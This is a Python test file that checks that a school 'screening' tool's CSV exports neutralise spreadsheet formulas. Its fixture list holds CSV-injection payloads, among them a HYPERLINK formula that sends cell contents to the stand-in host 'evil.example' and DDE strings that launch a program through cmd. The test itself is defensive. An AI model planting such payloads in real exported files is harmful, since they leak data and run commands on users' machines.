"""CSV files written for people never hold a cell a spreadsheet would run as a formula."""

import dataclasses

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from screening import _cli
from screening._csv import FORMULA_START, neutralise, spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path):
    """Every cell of a CSV as text, exactly as a spreadsheet would see it."""
    import csv

    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_upn_starting_with_equals_is_neutralised_in_scores_csv(result, tmp_path):
    """Before: a UPN '=HYPERLINK(...)' went into scores.csv verbatim and Excel ran it."""
    scores = result.scores.copy()
    scores.loc[: len(HOSTILE) - 1, "upn"] = HOSTILE
    scores.loc[0, "school"] = "=1+1"
    scores.loc[1, "school"] = "Oak\r=1+1"  # a CR inside a text must not start a new row
    hostile = dataclasses.replace(result, scores=scores)
    for path in hostile.to_csv(tmp_path):
        if path.suffix == ".csv":
            assert not [c for c in _cells(path) if c.startswith(FORMULA_START)
                        and not _is_number(c)], path.name
    back = pd.read_csv(tmp_path / "scores.csv", dtype={"upn": str, "school": str})
    assert len(back) == len(scores) and back.loc[1, "school"] == "Oak\r=1+1"
    assert back["upn"].head(len(HOSTILE)).tolist() == ["'" + h for h in HOSTILE]
    # numbers stay numbers: risk is read back exactly, points as whole numbers
    np.testing.assert_allclose(back["risk"], scores["risk"], rtol=1e-12)
    assert pd.api.types.is_integer_dtype(back["points"])
    assert (back["points"] == scores["points"]).all()
    # the JSON output keeps the original values
    assert hostile.to_dict()["scores"][0]["upn"] == HOSTILE[0]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_audit_command_neutralises_group_labels(tmp_path):
    n = 200
    frame = pd.DataFrame({"ethnicity": ["=cmd|' /C calc'!A0", "WBRI"] * (n // 2),
                          "flag": [1, 0, 0, 0] * (n // 4)})
    frame.to_csv(tmp_path / "f.csv", index=False)
    assert _cli.main(["audit", str(tmp_path / "f.csv"), "--group", "ethnicity", "--flag",
                      "flag", "--n-boot", "20", "--out", str(tmp_path / "a")]) == 0
    cells = _cells(tmp_path / "a" / "audit.csv")
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith("=")]


def test_numbers_and_negative_numbers_stay_as_they_are():
    df = pd.DataFrame({"x": [-1.5, 2.0], "n": [-3, 4], "t": ["-3", "+0.5e-3"],
                       "label": ["-> see note", "ok"], "flag": [True, False],
                       "cat": pd.Categorical(["=A", "B"]),
                       "when": pd.to_datetime(["2024-10-03", None])})
    out = spreadsheet_safe(df)
    pd.testing.assert_series_equal(out["x"], df["x"])
    pd.testing.assert_series_equal(out["n"], df["n"])
    pd.testing.assert_series_equal(out["when"], df["when"])
    assert out["t"].tolist() == ["-3", "+0.5e-3"]
    assert out["label"].tolist() == ["'-> see note", "ok"]
    assert list(out["cat"].cat.categories) == ["'=A", "B"]
    assert out["flag"].tolist() == [True, False]


def test_column_names_are_neutralised_too():
    assert list(spreadsheet_safe(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=0, max_size=12))
def test_no_text_cell_can_start_a_formula(text):
    out = neutralise(text)
    assert not (out.startswith(FORMULA_START) and not _is_plain_number(out))
    assert out == text or out == "'" + text


def _is_plain_number(text):
    import re

    return re.fullmatch(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", text) is not None


@pytest.mark.parametrize("value", [None, np.nan, 3, -2.5, pd.NA])
def test_non_text_values_pass_through(value):
    assert neutralise(value) is value
